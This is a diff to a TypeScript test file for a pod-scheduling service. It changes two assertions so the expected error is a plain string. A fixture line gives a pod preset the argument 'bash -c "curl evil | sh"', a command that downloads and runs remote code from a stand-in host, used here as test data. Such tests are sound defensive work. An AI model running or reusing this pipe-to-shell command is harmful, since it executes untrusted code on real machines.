@@ -126,7 +126,7 @@ describe('a window', () => {
     const rule = { accountId: ACCOUNT, presetName: 'h100', digest, maxPerHourUsd: 3 }
     const rules = { ...none, starts: [{ podKey, maxPerHourUsd: 2 }], creates: [rule] }
     expect(await handlers.setSchedule(rules)).toMatchObject({
-      error: { message: 'There is no preset h100.' },
+      error: 'There is no preset h100.',
     })
     const form = podForm({ image: 'example/image', args: 'bash -c "curl evil | sh"' })
     presets.set('h100', { form, neededVariables: [], digest: 'c'.repeat(64) })
@@ -216,7 +216,7 @@ describe('a window', () => {
     await handlers.setSchedule(rules)
     state.meanwhile = () => void fixture.queue.requests.setSchedule({ ...rules, podKeys: [] })
     expect(await handlers.setSchedule({ ...rules, podKeys: [one, other] })).toMatchObject({
-      error: { message: expect.stringContaining('changed in the meantime') },
+      error: expect.stringContaining('changed in the meantime'),
     })
     expect(fixture.queue.view().rules.podKeys).toEqual([])
   })
